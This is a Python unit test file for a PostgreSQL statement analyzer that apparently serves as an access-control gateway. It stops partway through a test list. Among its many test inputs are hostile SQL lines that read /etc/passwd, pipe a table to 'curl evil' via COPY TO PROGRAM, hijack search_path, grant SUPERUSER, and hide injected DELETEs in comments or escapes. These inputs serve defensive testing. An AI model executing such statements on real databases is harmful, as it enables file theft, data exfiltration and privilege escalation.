"""Unit tests for the SQL analyzer: statements in, summaries out, no database."""

from __future__ import annotations

import pglast
import pytest

from querywarden.analysis import (
    AnalysisError,
    Analyzer,
    ColumnRef,
    QualifiedName,
    StatementSummary,
    analyze,
    sanitized_text,
)


def q(name: str) -> QualifiedName:
    """``"s.t"`` -> QualifiedName("s", "t"); ``"t"`` -> QualifiedName(None, "t")."""
    schema, _, rel = name.rpartition(".")
    return QualifiedName(schema or None, rel)


def names(*items: str) -> frozenset[QualifiedName]:
    return frozenset(q(i) for i in items)


def one(sql: str) -> StatementSummary:
    (summary,) = Analyzer().analyze(sql)
    return summary


def cols(summary: StatementSummary) -> set[tuple[str | None, str, str]]:
    return {(c.relation, c.column, c.clause) for c in summary.columns}


# (sql, operations, reads, writes, functions): each set is asserted exactly.
CASES = [
    # --- plain DML ---------------------------------------------------------------------
    ("SELECT a FROM t", {"select"}, {"t"}, set(), set()),
    ("SELECT * FROM public.customers WHERE id = 1", {"select"}, {"public.customers"}, set(), set()),
    ("TABLE s.t", {"select"}, {"s.t"}, set(), set()),
    ("VALUES (1), (2)", {"select"}, set(), set(), set()),
    ("SELECT 1", {"select"}, set(), set(), set()),
    ("INSERT INTO t (a) VALUES (1)", {"insert"}, set(), {"t"}, set()),
    ("INSERT INTO s.t SELECT * FROM u", {"insert", "select"}, {"u"}, {"s.t"}, set()),
    ("UPDATE t SET a = 1 WHERE id = 2", {"update"}, set(), {"t"}, set()),
    ("UPDATE t SET a = u.b FROM u WHERE t.id = u.id", {"update"}, {"u"}, {"t"}, set()),
    ("DELETE FROM t WHERE id = 1", {"delete"}, set(), {"t"}, set()),
    ("DELETE FROM t USING u WHERE t.id = u.id", {"delete"}, {"u"}, {"t"}, set()),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
        "WHEN NOT MATCHED THEN INSERT (a) VALUES (s.a)",
        {"merge", "update", "insert"},
        {"s"},
        {"t"},
        set(),
    ),
    (
        "MERGE INTO t USING (SELECT * FROM src) s ON t.id = s.id WHEN MATCHED THEN DELETE",
        {"merge", "delete", "select"},
        {"src"},
        {"t"},
        set(),
    ),
    (
        "INSERT INTO t (a, b) VALUES (1, 2) ON CONFLICT (a) DO UPDATE SET b = excluded.b",
        {"insert", "update"},
        set(),
        {"t"},
        set(),
    ),
    ("INSERT INTO t (a) VALUES (1) ON CONFLICT DO NOTHING", {"insert"}, set(), {"t"}, set()),
    ("TRUNCATE t, s.u", {"truncate"}, set(), {"t", "s.u"}, set()),
    # --- data-modifying CTEs and nesting -------------------------------------------------
    (
        "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
        {"delete", "select"},
        set(),
        {"orders"},
        set(),
    ),
    (
        "WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d",
        {"delete", "insert", "select"},
        set(),
        {"orders", "archive"},
        set(),
    ),
    (
        "WITH u AS (UPDATE t SET a = 1 RETURNING id) SELECT count(*) FROM u",
        {"update", "select"},
        set(),
        {"t"},
        {"count"},
    ),
    (
        "WITH i AS (INSERT INTO log (m) VALUES ('x') RETURNING id) SELECT * FROM i",
        {"insert", "select"},
        set(),
        {"log"},
        set(),
    ),
    (
        "SELECT * FROM (WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x) sub",
        {"delete", "select"},
        set(),
        {"t"},
        set(),
    ),
    (
        "SELECT (WITH x AS (UPDATE t SET a = 1 RETURNING a) SELECT max(a) FROM x)",
        {"update", "select"},
        set(),
        {"t"},
        {"max"},
    ),
    (
        "WITH a AS (SELECT * FROM t1), b AS (SELECT * FROM a JOIN t2 USING (id)) SELECT * FROM b",
        {"select"},
        {"t1", "t2"},
        set(),
        set(),
    ),
    # a non-recursive CTE does not see itself: the inner "t" is the table
    ("WITH t AS (SELECT * FROM t) SELECT * FROM t", {"select"}, {"t"}, set(), set()),
    # a CTE name only shadows unqualified names, and only inside its statement
    (
        "WITH secrets AS (SELECT 1) SELECT * FROM secrets, public.secrets",
        {"select"},
        {"public.secrets"},
        set(),
        set(),
    ),
    (
        "SELECT * FROM (WITH s AS (SELECT 1) SELECT * FROM s) x, s",
        {"select"},
        {"s"},
        set(),
        set(),
    ),
    (
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) "
        "SELECT * FROM r",
        {"select"},
        set(),
        set(),
        set(),
    ),
    # a DML target is never a CTE reference
    (
        "WITH t AS (SELECT 1) DELETE FROM t WHERE true",
        {"delete", "select"},
        set(),
        {"t"},
        set(),
    ),
    ("SELECT a FROM t UNION SELECT b FROM u", {"select"}, {"t", "u"}, set(), set()),
    (
        "SELECT a FROM t INTERSECT SELECT b FROM u EXCEPT SELECT c FROM v",
        {"select"},
        {"t", "u", "v"},
        set(),
        set(),
    ),
    (
        "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))",
        {"select"},
        {"t", "u", "v"},
        set(),
        set(),
    ),
    (
        "SELECT (SELECT max(x) FROM u), * FROM t, LATERAL (SELECT * FROM v WHERE v.id = t.id) l",
        {"select"},
        {"t", "u", "v"},
        set(),
        {"max"},
    ),
    (
        "SELECT * FROM t JOIN u ON t.id = u.id LEFT JOIN s.v USING (id)",
        {"select"},
        {"t", "u", "s.v"},
        set(),
        set(),
    ),
    ("SELECT * FROM (VALUES ((SELECT a FROM t))) v(x)", {"select"}, {"t"}, set(), set()),
    # --- SELECT INTO / CREATE TABLE AS / locks --------------------------------------------
    (
        "SELECT * INTO new_table FROM customers",
        {"select", "select_into", "ddl", "ddl:create_table_as"},
        {"customers"},
        {"new_table"},
        set(),
    ),
    (
        "CREATE TABLE s.copy AS SELECT * FROM customers",
        {"select", "select_into", "ddl", "ddl:create_table_as"},
        {"customers"},
        {"s.copy"},
        set(),
    ),
    (
        "CREATE MATERIALIZED VIEW mv AS SELECT ssn FROM customers",
        {"select", "select_into", "ddl", "ddl:create_materialized_view"},
        {"customers"},
        {"mv"},
        set(),
    ),
    (
        "SELECT * FROM t WHERE id = 1 FOR UPDATE",
        {"select", "row_lock"},
        {"t"},
        set(),
        set(),
    ),
    (
        "SELECT * FROM t WHERE id IN (SELECT id FROM u FOR SHARE)",
        {"select", "row_lock"},
        {"t", "u"},
        set(),
        set(),
    ),
    (
        "SELECT * FROM t FOR NO KEY UPDATE OF t SKIP LOCKED",
        {"select", "row_lock"},
        {"t"},
        set(),
        set(),
    ),
    # --- EXPLAIN ------------------------------------------------------------------------
    (
        "EXPLAIN ANALYZE DELETE FROM t",
        {"explain", "explain_analyze", "delete"},
        set(),
        {"t"},
        set(),
    ),
    (
        "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE b = 2",
        {"explain", "explain_analyze", "update"},
        set(),
        {"t"},
        set(),
    ),
    (
        "EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)",
        {"explain", "explain_analyze", "insert"},
        set(),
        {"t"},
        set(),
    ),
    ("EXPLAIN DELETE FROM t", {"explain", "delete"}, set(), {"t"}, set()),
    ("EXPLAIN (ANALYZE false) DELETE FROM t", {"explain", "delete"}, set(), {"t"}, set()),
    ("EXPLAIN (ANALYZE off, COSTS off) DELETE FROM t", {"explain", "delete"}, set(), {"t"}, set()),
    ("EXPLAIN SELECT * FROM t", {"explain", "select"}, {"t"}, set(), set()),
    (
        "EXPLAIN ANALYZE EXECUTE p(1)",
        {"explain", "explain_analyze", "execute"},
        set(),
        set(),
        set(),
    ),
    (
        "EXPLAIN ANALYZE CREATE TABLE x AS SELECT * FROM t",
        {"explain", "explain_analyze", "select", "select_into", "ddl", "ddl:create_table_as"},
        {"t"},
        {"x"},
        set(),
    ),
    # --- functions with side effects -----------------------------------------------------
    (
        "SELECT pg_read_file('/etc/passwd')",
        {"select"},
        set(),
        set(),
        {"pg_read_file"},
    ),
    (
        "SELECT * FROM pg_catalog.pg_ls_dir('.')",
        {"select"},
        set(),
        set(),
        {"pg_catalog.pg_ls_dir"},
    ),
    (
        "SELECT lo_import('/etc/passwd')",
        {"select", "update"},
        set(),
        {"pg_catalog.pg_largeobject"},
        {"lo_import"},
    ),
    (
        "SELECT lo_export(1234, '/tmp/x')",
        {"select"},
        {"pg_catalog.pg_largeobject"},
        set(),
        {"lo_export"},
    ),
    (
        "SELECT * FROM dblink('dbname=app', 'DELETE FROM t') AS x(a int)",
        {"select"},
        set(),
        set(),
        {"dblink"},
    ),
    (
        "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
        {"select"},
        {"pg_stat_activity"},
        set(),
        {"pg_terminate_backend"},
    ),
    (
        "SELECT pg_terminate_backend(pg_backend_pid())",
        {"select"},
        set(),
        set(),
        {"pg_terminate_backend", "pg_backend_pid"},
    ),
    (
        "SELECT set_config('role', 'admin', false)",
        {"select", "set", "set_role"},
        set(),
        set(),
        {"set_config"},
    ),
    (
        "SELECT pg_catalog.set_config('search_path', 'evil', true)",
        {"select", "set", "set_search_path"},
        set(),
        set(),
        {"pg_catalog.set_config"},
    ),
    (
        "SELECT set_config('application_name', 'x', false)",
        {"select", "set"},
        set(),
        set(),
        {"set_config"},
    ),
    (
        "SELECT set_config($1, $2, false)",
        {"select", "set", "set_role", "set_session_authorization", "set_search_path"},
        set(),
        set(),
        {"set_config"},
    ),
    # nextval/setval write the sequence (PostgreSQL asks for UPDATE on it).
    (
        "SELECT nextval('orders_id_seq')",
        {"select", "update"},
        set(),
        {"orders_id_seq"},
        {"nextval"},
    ),
    (
        "INSERT INTO t (id) VALUES (nextval('s'))",
        {"insert", "update"},
        set(),
        {"t", "s"},
        {"nextval"},
    ),
    ("SELECT app.definer_fn(1)", {"select"}, set(), set(), {"app.definer_fn"}),
    (
        "SELECT * FROM t WHERE x = ANY (SELECT unnest(f(y)) FROM u)",
        {"select"},
        {"t", "u"},
        set(),
        {"unnest", "f"},
    ),
    (
        "SELECT * FROM t TABLESAMPLE bernoulli (10)",
        {"select"},
        {"t"},
        set(),
        {"bernoulli"},
    ),
    ("SELECT pg_notify('ch', 'x')", {"select", "notify"}, set(), set(), {"pg_notify"}),
    # SQL run by a function from a constant string is analyzed too
    (
        "SELECT query_to_xml('SELECT * FROM secrets', true, false, '')",
        {"select"},
        {"secrets"},
        set(),
        {"query_to_xml"},
    ),
    (
        "SELECT table_to_xml('public.secrets', true, false, '')",
        {"select"},
        {"public.secrets"},
        set(),
        {"table_to_xml"},
    ),
    (
        "SELECT schema_to_xml('hr', true, false, '')",
        {"select"},
        {"hr.*"},
        set(),
        {"schema_to_xml"},
    ),
    (
        "SELECT ts_stat('SELECT body FROM docs')",
        {"select"},
        {"docs"},
        set(),
        {"ts_stat"},
    ),
    # --- DO / CALL / PREPARE / EXECUTE / CREATE FUNCTION ----------------------------------
    ("DO $$BEGIN DELETE FROM t; END$$", {"do"}, set(), set(), set()),
    ("DO LANGUAGE plpgsql $body$ BEGIN PERFORM 1; END $body$", {"do"}, set(), set(), set()),
    ("CALL s.proc(1, 'x')", {"call"}, set(), set(), {"s.proc"}),
    ("CALL refresh(f(1))", {"call"}, set(), set(), {"refresh", "f"}),
    ("PREPARE p AS DELETE FROM t WHERE id = $1", {"prepare", "delete"}, set(), {"t"}, set()),
    (
        "PREPARE p (int) AS SELECT * FROM t WHERE id = $1",
        {"prepare", "select"},
        {"t"},
        set(),
        set(),
    ),
    ("EXECUTE p(1)", {"execute"}, set(), set(), set()),
    ("EXECUTE p(f(1))", {"execute"}, set(), set(), {"f"}),
    ("DEALLOCATE p", {"deallocate"}, set(), set(), set()),
    ("DEALLOCATE ALL", {"deallocate"}, set(), set(), set()),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql SECURITY DEFINER "
        "AS $$BEGIN DELETE FROM t; RETURN 1; END$$",
        {"ddl", "ddl:create_function"},
        set(),
        set(),
        set(),
    ),
    (
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END",
        {"ddl", "ddl:create_function", "delete", "select"},
        set(),
        {"t"},
        set(),
    ),
    (
        "CREATE PROCEDURE p() LANGUAGE sql AS $$ UPDATE t SET a = 1 $$",
        {"ddl", "ddl:create_function"},
        set(),
        set(),
        set(),
    ),
    # --- session settings ---------------------------------------------------------------
    ("SET ROLE admin", {"set", "set_role"}, set(), set(), set()),
    ("SET LOCAL ROLE admin", {"set", "set_role"}, set(), set(), set()),
    # A reset returns to the role the gateway connected with: no role switch.
    ("RESET ROLE", {"reset", "set"}, set(), set(), set()),
    ("SET ROLE NONE", {"set"}, set(), set(), set()),
    ("SET ROLE 'none'", {"set"}, set(), set(), set()),
    (
        "SET SESSION AUTHORIZATION postgres",
        {"set", "set_session_authorization"},
        set(),
        set(),
        set(),
    ),
    ("SET SESSION AUTHORIZATION DEFAULT", {"set"}, set(), set(), set()),
    ("RESET SESSION AUTHORIZATION", {"reset", "set"}, set(), set(), set()),
    ("SET search_path = evil, public", {"set", "set_search_path"}, set(), set(), set()),
    ("SET LOCAL search_path TO evil", {"set", "set_search_path"}, set(), set(), set()),
    ("SET SCHEMA 'evil'", {"set", "set_search_path"}, set(), set(), set()),
    ('SET "Search_Path" TO evil', {"set", "set_search_path"}, set(), set(), set()),
    ("RESET search_path", {"reset", "set", "set_search_path"}, set(), set(), set()),
    ("SET work_mem = '64MB'", {"set"}, set(), set(), set()),
    ("SET TIME ZONE 'UTC'", {"set"}, set(), set(), set()),
    ("RESET ALL", {"reset", "set", "set_search_path"}, set(), set(), set()),
    ("SHOW search_path", {"show"}, set(), set(), set()),
    ("ALTER ROLE agent SUPERUSER", {"ddl", "ddl:alter_role"}, set(), set(), set()),
    (
        "ALTER ROLE agent SET search_path = evil",
        # A default for every later session of that role: treated as SET search_path.
        {"ddl", "ddl:alter_role_set", "set_search_path"},
        set(),
        set(),
        set(),
    ),
    ("CREATE ROLE r LOGIN", {"ddl", "ddl:create_role"}, set(), set(), set()),
    # A password is an operation of its own: identities come from tokens.
    (
        "CREATE ROLE r LOGIN PASSWORD 'x'",
        {"ddl", "ddl:create_role", "password"},
        set(),
        set(),
        set(),
    ),
    ("ALTER USER bob PASSWORD 'md5x'", {"ddl", "ddl:alter_role", "password"}, set(), set(), set()),
    ("ALTER ROLE bob PASSWORD NULL", {"ddl", "ddl:alter_role", "password"}, set(), set(), set()),
    ("ALTER ROLE bob NOLOGIN", {"ddl", "ddl:alter_role"}, set(), set(), set()),
    ("DROP ROLE r", {"ddl", "ddl:drop_role"}, set(), set(), set()),
    ("ALTER SYSTEM SET work_mem = '1GB'", {"alter_system"}, set(), set(), set()),
    # --- DDL -----------------------------------------------------------------------------
    ("CREATE TABLE s.t (a int)", {"ddl", "ddl:create_table"}, set(), {"s.t"}, set()),
    (
        "CREATE TEMP TABLE scratch (a int)",
        {"ddl", "ddl:create_table"},
        set(),
        {"pg_temp.scratch"},
        set(),
    ),
    (
        "CREATE TABLE t (a int DEFAULT nextval('s'), b text CHECK (valid(b)))",
        {"ddl", "ddl:create_table", "update"},
        set(),
        {"t", "s"},
        {"nextval", "valid"},
    ),
    (
        "CREATE TABLE t (LIKE secrets INCLUDING ALL)",
        {"ddl", "ddl:create_table"},
        {"secrets"},
        {"t"},
        set(),
    ),
    (
        "CREATE TABLE child () INHERITS (parent)",
        {"ddl", "ddl:create_table"},
        set(),
        {"child", "parent"},
        set(),
    ),
    (
        "CREATE TABLE p1 PARTITION OF p FOR VALUES IN (1)",
        {"ddl", "ddl:create_table"},
        set(),
        {"p1", "p"},
        set(),
    ),
    (
        "ALTER TABLE t ADD COLUMN c int DEFAULT f()",
        {"ddl", "ddl:alter_table"},
        set(),
        {"t"},
        {"f"},
    ),
    (
        "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (a) REFERENCES u (b)",
        {"ddl", "ddl:alter_table"},
        set(),
        {"t", "u"},
        set(),
    ),
    (
        "DROP TABLE a.b, c CASCADE",
        {"ddl", "ddl:drop", "ddl:drop_table"},
        set(),
        {"a.b", "c"},
        set(),
    ),
    ("DROP VIEW IF EXISTS v", {"ddl", "ddl:drop", "ddl:drop_view"}, set(), {"v"}, set()),
    ("DROP SCHEMA hr CASCADE", {"ddl", "ddl:drop", "ddl:drop_schema"}, set(), {"hr.*"}, set()),
    ("DROP FUNCTION f(int)", {"ddl", "ddl:drop", "ddl:drop_function"}, set(), set(), set()),
    ("DROP TRIGGER tr ON s.t", {"ddl", "ddl:drop", "ddl:drop_trigger"}, set(), {"s.t"}, set()),
    (
        "CREATE INDEX i ON s.t USING gin (lower(a))",
        {"ddl", "ddl:create_index"},
        set(),
        {"s.t"},
        {"lower"},
    ),
    (
        "CREATE VIEW v AS SELECT * FROM t WHERE a IN (SELECT b FROM u)",
        {"ddl", "ddl:create_view", "select"},
        {"t", "u"},
        {"v"},
        set(),
    ),
    ("CREATE SCHEMA hr", {"ddl", "ddl:create_schema"}, set(), set(), set()),
    (
        "CREATE SCHEMA hr CREATE TABLE t (a int)",
        {"ddl", "ddl:create_schema", "ddl:create_table"},
        set(),
        {"t"},
        set(),
    ),
    (
        "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION s.trg()",
        {"ddl", "ddl:create_trigger"},
        set(),
        {"t"},
        {"s.trg"},
    ),
    (
        "CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u",
        {"ddl", "ddl:create_rule", "delete"},
        set(),
        {"t", "u"},
        set(),
    ),
    (
        "CREATE POLICY p ON t USING (owner = current_user)",
        {"ddl", "ddl:create_policy"},
        set(),
        {"t"},
        set(),
    ),
    ("CREATE SEQUENCE s.seq", {"ddl", "ddl:create_sequence"}, set(), {"s.seq"}, set()),
    ("ALTER TABLE t RENAME TO u", {"ddl", "ddl:rename"}, set(), {"t"}, set()),
    ("ALTER SCHEMA hr RENAME TO x", {"ddl", "ddl:rename"}, set(), {"hr.*"}, set()),
    (
        "ALTER TABLE t SET SCHEMA other",
        {"ddl", "ddl:alter_object_schema"},
        set(),
        {"t"},
        set(),
    ),
    ("ALTER TABLE t OWNER TO r", {"ddl", "ddl:alter_table"}, set(), {"t"}, set()),
    ("CREATE DATABASE d", {"ddl", "ddl:create_database"}, set(), set(), set()),
    (
        "CREATE EXTENSION dblink",
        {"create_extension", "ddl", "ddl:create_extension"},
        set(),
        set(),
        set(),
    ),
    (
        "ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r",
        {"ddl", "ddl:alter_default_privileges", "grant"},
        set(),
        set(),
        set(),
    ),
    # --- privileges -----------------------------------------------------------------------
    ("GRANT SELECT ON t, s.u TO agent", {"grant"}, set(), {"t", "s.u"}, set()),
    ("GRANT ALL ON ALL TABLES IN SCHEMA public TO agent", {"grant"}, set(), {"public.*"}, set()),
    ("REVOKE UPDATE ON t FROM agent", {"revoke"}, set(), {"t"}, set()),
    ("GRANT admin TO agent", {"grant"}, set(), set(), set()),
    ("REVOKE admin FROM agent", {"revoke"}, set(), set(), set()),
    # --- COPY -----------------------------------------------------------------------------
    ("COPY t TO STDOUT", {"copy_out"}, {"t"}, set(), set()),
    ("COPY t (a, b) TO STDOUT WITH (FORMAT csv)", {"copy_out"}, {"t"}, set(), set()),
    (
        "COPY (SELECT ssn FROM customers) TO STDOUT",
        {"copy_out", "select"},
        {"customers"},
        set(),
        set(),
    ),
    (
        "COPY (DELETE FROM t RETURNING *) TO STDOUT",
        {"copy_out", "delete"},
        set(),
        {"t"},
        set(),
    ),
    ("COPY t FROM STDIN", {"copy_in"}, set(), {"t"}, set()),
    ("COPY t FROM STDIN WHERE f(a) > 0", {"copy_in"}, set(), {"t"}, {"f"}),
    ("COPY t TO '/tmp/t.csv'", {"copy_file"}, {"t"}, set(), set()),
    ("COPY t FROM '/etc/passwd'", {"copy_file"}, set(), {"t"}, set()),
    ("COPY t TO PROGRAM 'curl evil'", {"copy_program"}, {"t"}, set(), set()),
    ("COPY t FROM PROGRAM 'cat /etc/passwd'", {"copy_program"}, set(), {"t"}, set()),
    # --- transaction, cursors, notifications, maintenance ---------------------------------
    ("BEGIN", {"transaction"}, set(), set(), set()),
    ("START TRANSACTION ISOLATION LEVEL SERIALIZABLE", {"transaction"}, set(), set(), set()),
    ("COMMIT", {"transaction"}, set(), set(), set()),
    ("ROLLBACK TO SAVEPOINT sp", {"transaction"}, set(), set(), set()),
    ("SAVEPOINT sp", {"transaction"}, set(), set(), set()),
    ("PREPARE TRANSACTION 'x'", {"transaction"}, set(), set(), set()),
    ("SET CONSTRAINTS ALL DEFERRED", {"transaction"}, set(), set(), set()),
    ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", {"lock"}, set(), {"t"}, set()),
    ("LOCK TABLE t IN ACCESS SHARE MODE", {"lock"}, {"t"}, set(), set()),
    ("LISTEN ch", {"listen"}, set(), set(), set()),
    ("NOTIFY ch, 'payload'", {"notify"}, set(), set(), set()),
    ("UNLISTEN *", {"unlisten"}, set(), set(), set()),
    ("VACUUM t", {"vacuum"}, set(), {"t"}, set()),
    ("VACUUM (ANALYZE) t", {"vacuum", "analyze"}, set(), {"t"}, set()),
    ("ANALYZE s.t", {"analyze"}, set(), {"s.t"}, set()),
    ("REINDEX TABLE t", {"reindex"}, set(), {"t"}, set()),
    ("CLUSTER t USING i", {"cluster"}, set(), {"t"}, set()),
    ("REFRESH MATERIALIZED VIEW mv", {"refresh_materialized_view"}, set(), {"mv"}, set()),
    ("CHECKPOINT", {"checkpoint"}, set(), set(), set()),
    ("LOAD 'auto_explain'", {"load"}, set(), set(), set()),
    (
        "DISCARD ALL",
        {"discard", "set_search_path"},
        set(),
        set(),
        set(),
    ),
    ("DISCARD PLANS", {"discard"}, set(), set(), set()),
    ("COMMENT ON TABLE s.t IS 'x'", {"comment"}, set(), {"s.t"}, set()),
    ("COMMENT ON COLUMN t.c IS 'x'", {"comment"}, set(), {"t"}, set()),
    ("SECURITY LABEL ON TABLE t IS 'secret'", {"security_label"}, set(), {"t"}, set()),
    (
        "DECLARE c CURSOR WITH HOLD FOR SELECT * FROM t",
        {"declare_cursor", "select"},
        {"t"},
        set(),
        set(),
    ),
    ("FETCH 10 FROM c", {"fetch"}, set(), set(), set()),
    ("MOVE NEXT IN c", {"fetch"}, set(), set(), set()),
    ("CLOSE c", {"close_cursor"}, set(), set(), set()),
    ("CLOSE ALL", {"close_cursor"}, set(), set(), set()),
    # --- comments, dollar quoting, escapes, identifiers -----------------------------------
    ("/* DELETE FROM t */ SELECT 1", {"select"}, set(), set(), set()),
    ("SELECT 1 -- ; DELETE FROM t", {"select"}, set(), set(), set()),
    ("SELECT $$; DELETE FROM t; $$", {"select"}, set(), set(), set()),
    ("SELECT $tag$ $$; DROP TABLE t; $$ $tag$", {"select"}, set(), set(), set()),
    ("SELECT U&'\\0027; DELETE FROM t; --'", {"select"}, set(), set(), set()),
    ("SELECT E'\\'; DELETE FROM t; --'", {"select"}, set(), set(), set()),
    ("/* nested /* comment */ DELETE FROM t */ SELECT 1", {"select"}, set(), set(), set()),
    ("DeLeTe FrOm PuBlIc.OrDeRs WHERE id = 1", {"delete"}, set(), {"public.orders"}, set()),
]


@pytest.mark.parametrize(
    ("sql", "ops", "reads", "writes", "functions"),
    [pytest.param(*case, id=case[0][:60]) for case in CASES],
)
def test_shapes(
    sql: str, ops: set[str], reads: set[str], writes: set[str], functions: set[str]
) -> None:
    s = one(sql)
    assert s.operations == frozenset(ops)
    assert s.reads == names(*reads)
    assert s.writes == names(*writes)
    assert s.functions == names(*functions)
    # the statement's slice as the parser delimits it (leading comments are not part of it)
    assert s.text == pglast.parser.split(sql)[0]
    assert s.fingerprint == pglast.parser.fingerprint(s.text)


def test_enough_cases() -> None:
    assert len(CASES) >= 100


ALL_OPERATIONS = [
    "select",
    "insert",
    "update",
    "delete",
    "merge",
    "truncate",
    "ddl",
    "grant",
    "revoke",
    "copy_out",
    "copy_in",
    "copy_file",
    "copy_program",
    "call",
    "do",
    "prepare",
    "execute",
    "deallocate",
    "set",
    "reset",
    "set_role",
    "set_session_authorization",
    "set_search_path",
    "transaction",
    "lock",
    "listen",
    "notify",
    "unlisten",
    "vacuum",
    "analyze",
    "explain",
    "explain_analyze",
    "select_into",
    "row_lock",
    "alter_system",
    "discard",
    "checkpoint",
    "load",
    "reindex",
    "cluster",
    "refresh_materialized_view",
    "comment",
    "security_label",
    "create_extension",
    "fetch",
    "declare_cursor",
    "close_cursor",
    "show",
]


def test_every_operation_name_is_covered() -> None:
    seen: set[str] = set()
    for case in CASES:
        seen |= case[1]
    assert set(ALL_OPERATIONS) <= seen
    ddl_kinds = {op for op in seen if op.startswith("ddl:")}
    assert {
        "ddl:create_table",
        "ddl:drop_table",
        "ddl:alter_table",
        "ddl:create_function",
        "ddl:drop",
        "ddl:create_index",
        "ddl:create_view",
        "ddl:create_schema",
        "ddl:alter_role",
    } <= ddl_kinds


# --- command, deferred operations, flags --------------------------------------------------


@pytest.mark.parametrize(
    ("sql", "command"),
    [
        ("SELECT 1", "select"),
        ("SELECT 1 INTO t", "select_into"),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("EXPLAIN ANALYZE DELETE FROM t", "explain"),
        ("CREATE TABLE t (a int)", "ddl:create_table"),
        ("DROP TABLE t", "ddl:drop"),
        ("COPY t TO STDOUT", "copy_out"),
        ("SET ROLE x", "set"),
        ("RESET ROLE", "reset"),
        ("PREPARE p AS SELECT 1", "prepare"),
    ],
)
def test_command(sql: str, command: str) -> None:
    assert one(sql).command == command


@pytest.mark.parametrize(
    ("sql", "deferred"),
    [
        ("EXPLAIN DELETE FROM t", {"delete"}),
        ("EXPLAIN (ANALYZE off) UPDATE t SET a = 1", {"update"}),
        ("EXPLAIN ANALYZE DELETE FROM t", set()),
        ("PREPARE p AS DELETE FROM t", {"delete"}),
        ("CREATE RULE r AS ON SELECT TO t DO INSTEAD SELECT * FROM u", {"select"}),
        ("CREATE FUNCTION f() RETURNS int LANGUAGE sql RETURN (SELECT 1)", {"select"}),
        # executed now as well as deferred: not listed
        ("EXPLAIN WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d", {"delete", "select"}),
        ("DELETE FROM t", set()),
    ],
)
def test_deferred_operations(sql: str, deferred: set[str]) -> None:
    s = one(sql)
    assert s.deferred_operations == frozenset(deferred)
    assert s.deferred_operations <= s.operations


@pytest.mark.parametrize(
    ("sql", "unbounded"),
    [
        ("DELETE FROM t", True),
        ("UPDATE t SET a = 1", True),
        ("DELETE FROM t WHERE id = 1", False),
        ("UPDATE t SET a = 1 WHERE CURRENT OF c", False),
        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", True),
        ("WITH d AS (DELETE FROM t WHERE a RETURNING *) SELECT * FROM d", False),
        ("SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u) x", True),
        ("EXPLAIN ANALYZE DELETE FROM t", True),
        ("PREPARE p AS UPDATE t SET a = $1", True),
        ("TRUNCATE t", False),
        ("INSERT INTO t VALUES (1)", False),
        ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", False),
    ],
)
def test_unbounded_write(sql: str, unbounded: bool) -> None:
    assert one(sql).unbounded_write is unbounded


@pytest.mark.parametrize(
    ("sql", "locks"),
    [
        ("SELECT * FROM t FOR UPDATE", True),
        ("SELECT * FROM t FOR KEY SHARE", True),
        ("SELECT * FROM t WHERE a IN (SELECT a FROM u FOR UPDATE)", True),
        ("WITH x AS (SELECT * FROM t FOR SHARE) SELECT * FROM x", True),
        ("SELECT * FROM t", False),
        ("SELECT 'FOR UPDATE' FROM t", False),
    ],
)
def test_row_locks(sql: str, locks: bool) -> None:
    s = one(sql)
    assert s.row_locks is locks
    assert ("row_lock" in s.operations) is locks


@pytest.mark.parametrize(
    ("sql", "params"),
    [
        ("SET ROLE admin", {"role"}),
        ("SET role = admin", {"role"}),
        ('SET "ROLE" = admin', {"role"}),
        ("SET LOCAL ROLE admin", {"role"}),
        ("RESET ROLE", {"role"}),
        ("SET ROLE NONE", {"role"}),
        ("SET SESSION AUTHORIZATION bob", {"session_authorization"}),
        ("SET search_path = a, b", {"search_path"}),
        ("SET SEARCH_PATH TO DEFAULT", {"search_path"}),
        ("SET SCHEMA 'x'", {"search_path"}),
        ("SET TIME ZONE 'UTC'", {"timezone"}),
        ("SET NAMES 'UTF8'", {"client_encoding"}),
        ("SET standard_conforming_strings = off", {"standard_conforming_strings"}),
        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", {"transaction_isolation"}),
        (
            "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
            {"default_transaction_read_only"},
        ),
        ("RESET ALL", {"all"}),
        ("DISCARD ALL", {"all"}),
        ("SELECT set_config('ROLE', 'x', false)", {"role"}),
        ("SELECT set_config('search_path', 'x', true)", {"search_path"}),
        ("SELECT set_config('application_name', 'x', false)", {"application_name"}),
        ("SELECT set_config('ro' || 'le', 'x', false)", {"*"}),
        ("SELECT set_config(name, 'x', false) FROM t", {"*"}),
        ("UPDATE pg_settings SET setting = 'x' WHERE name = 'role'", {"*"}),
        ("SELECT current_setting('role')", set()),
        ("ALTER FUNCTION f() SET search_path = x", set()),
        ("ALTER ROLE r SET role = x", {"role"}),
        ("SHOW role", set()),
        ("SELECT 1", set()),
    ],
)
def test_set_parameters(sql: str, params: set[str]) -> None:
    assert one(sql).set_parameters == frozenset(params)


@pytest.mark.parametrize(
    ("sql", "opaque"),
    [
        ("DO $$BEGIN END$$", True),
        ("SELECT dblink_exec('x', 'DELETE FROM t')", True),
